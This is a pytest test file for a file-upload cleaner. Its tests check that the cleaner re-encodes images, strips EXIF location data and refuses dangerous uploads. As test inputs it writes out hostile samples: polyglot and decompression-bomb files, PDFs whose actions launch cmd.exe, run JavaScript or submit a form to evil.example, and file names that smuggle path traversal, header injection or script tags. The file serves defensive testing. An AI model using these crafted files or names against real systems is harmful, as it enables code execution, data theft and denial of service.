"""Files as attackers send them: told by their content, written anew or refused."""

from __future__ import annotations

import io
import random
import tracemalloc
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from beichen.fronts.services.applicant.cleaning import MOST_BYTES, clean
from beichen.problem import ProblemError


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    """A picture of one colour."""
    found = io.BytesIO()
    Image.new("RGB", size, "teal").save(found, form, **more)
    return found.getvalue()


def pdf(change: object = None, pages: int = 1) -> bytes:
    """A PDF with blank pages, changed by ``change``."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    if callable(change):
        change(writer)
    found = io.BytesIO()
    writer.write(found)
    return found.getvalue()


def refused(name: str, content: bytes) -> str:
    """The code with which a file is refused."""
    with pytest.raises(ProblemError) as caught:
        clean(name, content, "scan")
    assert caught.value.problems[0].where.field == "scan"
    return caught.value.problems[0].code


def test_a_place_within_a_picture_is_left_behind() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Camera 4711"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (43.0, 52.0, 30.0)
    taken = picture(exif=exif.tobytes())
    assert b"Camera 4711" in taken
    name, kept = clean("IMG.JPG", taken, "scan")
    assert name == "IMG.jpg"
    assert b"Camera 4711" not in kept
    assert not Image.open(io.BytesIO(kept)).getexif()


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "GIF"])
def test_pictures_become_fresh_ones_whatever_they_are_called(form: str) -> None:
    name, kept = clean("../../etc/passwd.exe", picture(form), "scan")
    assert name == "passwd.jpg"
    assert kept.startswith(b"\xff\xd8\xff")


def test_what_hides_behind_a_picture_is_gone() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evil.js", "alert(1)")
    _name, kept = clean("a.png", picture("PNG") + archive.getvalue() + b"<script>alert(1)</script>", "scan")
    assert b"PK" not in kept
    assert b"script" not in kept


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!doctype html><script>alert(1)</script>",
        b"PK\x03\x04" + b"\0" * 200,
        b"MZ\x90\0" + b"\0" * 200,
        b"\xff\xd8\xff" + b"no picture" * 20,
        b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        b"%PDF-1.7\nno more",
        b"%PDF-1.7\n" + b"%%EOF",
    ],
)
def test_what_is_neither_is_refused(content: bytes) -> None:
    assert refused("scan.pdf", content) == "SRV-511"


def test_a_picture_that_would_unpack_to_gigabytes_is_refused() -> None:
    size = 60_000
    header = b"IHDR" + size.to_bytes(4) + size.to_bytes(4) + b"\x08\x02\0\0\0"
    rows = zlib.compress(b"\0" * 10_000)
    content = b"\x89PNG\r\n\x1a\n" + _chunk(header) + _chunk(b"IDAT" + rows) + _chunk(b"IEND")
    assert refused("bomb.png", content) == "SRV-511"


def _chunk(content: bytes) -> bytes:
    return (len(content) - 4).to_bytes(4) + content + zlib.crc32(content).to_bytes(4)


def test_a_file_that_is_too_large_is_refused() -> None:
    assert refused("big.pdf", b"%PDF-" + b"x" * MOST_BYTES) == "SRV-512"


def test_a_plain_pdf_is_kept_as_it_is() -> None:
    content = pdf()
    assert clean("证明 (1).pdf", content, "scan") == ("证明 (1).pdf", content)


def _script(writer: PdfWriter) -> None:
    action = DictionaryObject()
    action[NameObject("/S")] = NameObject("/JavaScript")
    action[NameObject("/JS")] = TextStringObject("app.alert(1)")
    writer.root_object[NameObject("/OpenAction")] = action


def _attached(writer: PdfWriter) -> None:
    writer.add_attachment("evil.exe", b"MZ")


def _locked(writer: PdfWriter) -> None:
    writer.encrypt("secret")


def _launches(writer: PdfWriter) -> None:
    action = DictionaryObject()
    action[NameObject("/S")] = NameObject("/Launch")
    action[NameObject("/F")] = TextStringObject("cmd.exe")
    writer.root_object[NameObject("/OpenAction")] = action


def _goes_in_circles(writer: PdfWriter) -> None:
    circle = DictionaryObject()
    circle[NameObject("/Self")] = ArrayObject([writer.root_object.indirect_reference])
    writer.root_object[NameObject("/Circle")] = circle


@pytest.mark.parametrize("change", [_script, _attached, _locked, _launches])
def test_a_pdf_that_runs_or_carries_something_is_refused(change: object) -> None:
    assert refused("paper.pdf", pdf(change)) == "SRV-511"


def test_a_pdf_that_leads_back_to_itself_is_read_once() -> None:
    content = pdf(_goes_in_circles)
    assert clean("paper.pdf", content, "scan")[1] == content


def test_a_pdf_that_is_an_archive_too_is_refused() -> None:
    assert refused("paper.pdf", pdf() + b"PK\x03\x04" + b"x" * 200) == "SRV-511"
    content = pdf()
    assert refused("paper.pdf", content[:9] + b"<html><script>" + content[9:]) == "SRV-511"


def written(*objects: bytes) -> bytes:
    """A PDF of one blank page, letter by letter; the first object is what its opening does."""
    head = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    found, places = b"%PDF-1.7\n", []
    for number, one in enumerate((*head, *objects), 1):
        places.append(len(found))
        found += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(places) + 1, rows)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(found))
    return found + table + end


@pytest.mark.parametrize(
    "objects",
    [
        (b"<</S/Launch/F(cmd.exe)>>",),
        (b"<</S 5 0 R/F(cmd.exe)>>", b"/Launch"),
        (b"<</S/L#61unch/F(cmd.exe)>>",),
        (b"<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>",),
        (rb"<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)/D[0/Fit]>>",),
        (b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",),
        (b"<</S/ImportData/F(x.fdf)>>",),
        (b"<</S/SubmitForm/F(https://evil.example)>>",),
        (b"<</S/Rendition/OP 0>>",),
        (b"<</S/URI/URI(https://city.example)/Next[<</S/Launch/F(x)>>]>>",),
    ],
)
def test_however_it_is_written_what_acts_is_refused(objects: tuple[bytes, ...]) -> None:
    assert refused("paper.pdf", written(*objects)) == "SRV-511"


def test_a_paper_may_name_an_address() -> None:
    content = written(b"<</S/URI/URI(https://city.example)>>")
    assert clean("paper.pdf", content, "scan")[1] == content


def test_parts_that_would_unpack_to_gigabytes_are_not() -> None:
    """A stream of objects is unpacked to be read, as far as a paper's may be; others are left as they are."""
    packed = zlib.compress(b"0" * 300_000_000, 9)
    stream = b"<<%b/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
    page = written(b"<</S/URI/URI(x)>>", stream % (b"/X 1", len(packed), packed))
    assert clean("paper.pdf", page, "scan")[1] == page
    objects = stream % (b"/Type/ObjStm/N 1/First 4", len(packed), packed)
    tracemalloc.start()
    try:
        assert refused("paper.pdf", _with_object_stream(objects)) == "SRV-511"
        assert tracemalloc.get_traced_memory()[1] < 250 << 20
    finally:
        tracemalloc.stop()


def _with_object_stream(objects: bytes) -> bytes:
    """A PDF whose object 9, which its catalogue names, lies in the stream that is object 8."""
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R/X 9 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        8: objects,
    }
    found, rows = b"%PDF-1.7\n", [b"\0\0\0\0\0\xff\xff"] * 11
    rows[9] = b"\x02" + (8).to_bytes(4) + b"\0\0"
    for number, one in parts.items():
        rows[number] = b"\x01" + len(found).to_bytes(4) + b"\0\0"
        found += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    place = len(found)
    rows[10] = b"\x01" + place.to_bytes(4) + b"\0\0"
    table = b"".join(rows)
    head = b"<</Type/XRef/Size 11/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return found + b"10 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        head, table, place,
    )  # fmt: skip


@pytest.mark.parametrize("seed", range(4))
def test_whatever_bytes_come_they_are_kept_or_refused(seed: int) -> None:
    """Files of each kind with bytes changed, left out and put in between: never another failure."""
    chosen, kept, codes = random.Random(seed), 0, set[str]()
    forms = ("JPEG", "PNG", "WEBP", "GIF")
    files = [*(picture(form, (16, 12)) for form in forms), pdf(), written(b"<</S/URI/URI(x)>>")]
    for _number in range(150):
        content = bytearray(chosen.choice(files))
        for _change in range(chosen.randint(1, 6)):
            place = chosen.randrange(4, len(content) - 20)
            content[place : place + chosen.choice((0, 1, 1, 1, 9))] = chosen.randbytes(
                chosen.choice((0, 1, 1, 5))
            )
        try:
            kept += bool(clean("a.pdf", bytes(content), "scan"))
        except ProblemError as error:
            codes.add(error.problems[0].code)
    assert kept
    assert codes == {"SRV-511"}


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("photo\u202egnp.exe.png", "photognpexe"),
        ("..\\..\\windows\\system32\\cmd.png", "cmd"),
        ("/etc/passwd\x00.png", "passwd"),
        ("a\r\nSet-Cookie: x.png", "aSet-Cookie x"),
        ('"><script>.png', "script"),
        ("." * 300, "file"),
        ("证" * 300 + ".png", "证" * 80),
    ],
)
def test_names_keep_nothing_that_a_system_reads(name: str, stem: str) -> None:
    assert clean(name, picture("PNG"), "scan")[0] == f"{stem}.jpg"


def test_more_pages_than_a_paper_has_are_refused() -> None:
    assert refused("paper.pdf", pdf(pages=201)) == "SRV-511"
